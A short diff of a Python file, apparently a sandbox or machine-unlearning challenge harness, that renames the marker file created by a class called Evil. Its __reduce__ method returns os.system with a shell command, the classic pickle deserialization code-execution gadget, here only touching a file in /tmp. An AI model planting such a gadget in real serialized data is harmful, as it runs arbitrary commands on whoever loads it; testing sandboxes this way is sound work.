@@ -16,7 +16,7 @@ def send(tag, payload, announced=None):
 
 class Evil:
     def __reduce__(self):
-        return os.system, ("touch /tmp/escaped-from-the-sandbox",)
+        return os.system, ("touch /tmp/unlearn-hostile-escaped",)
 
 
 def unlearning(net, retain, forget, val):
